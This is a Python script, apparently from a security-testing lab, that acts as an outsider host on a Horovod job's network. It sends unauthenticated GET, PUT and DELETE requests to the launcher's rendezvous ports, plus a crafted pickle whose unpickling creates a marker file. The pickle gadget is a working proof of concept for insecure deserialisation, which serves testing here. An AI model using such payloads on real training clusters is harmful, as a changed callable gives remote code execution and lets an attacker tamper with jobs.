"""What an outsider on the job's network sends to the launcher's ports: ``outsider.py MARKER ADDR:PORT ...``.

Runs in the lab's outsider namespace (``lab.hosts.outsider``). To each port, over HTTP as Horovod's rendezvous
speaks it: a GET, a PUT and a DELETE of a rank's rendezvous key, an elastic driver's rank-and-size GET, and a PUT
of a crafted pickle under ``worker_addresses`` whose unpickling would create the file MARKER. Prints one JSON
object: ``{"ADDR:PORT": {"get": status, ...}}``, a status being the HTTP code, or ``"no-http"`` when the port did
not answer HTTP (not the rendezvous: Horovod's task services check their messages' HMAC), or ``"refused"``.
"""
import base64
import http.client
import json
import pickle
import sys


class Marker:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return (open, (self.path, "w"))


def status(addr, port, method, path, body=None):
    conn = http.client.HTTPConnection(addr, port, timeout=2)
    try:
        conn.request(method, path, body=body)
        return conn.getresponse().status
    except ConnectionRefusedError:
        return "refused"
    except (OSError, http.client.HTTPException):
        return "no-http"
    finally:
        conn.close()


def main(marker, targets):
    pickled = base64.b64encode(pickle.dumps(Marker(marker)))
    found = {}
    for target in targets:
        addr, port = target.rsplit(":", 1)
        port = int(port)
        found[target] = {
            "get": status(addr, port, "GET", "/global/0"),
            "put": status(addr, port, "PUT", "/global/0", b"0"),
            "delete": status(addr, port, "DELETE", "/global/0"),
            "rank_and_size": status(addr, port, "GET", "/rank_and_size/198.18.213.2:0"),
            "pickle": status(addr, port, "PUT", "/worker_addresses/198.18.213.2:0", pickled),
        }
    print(json.dumps(found))


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2:])
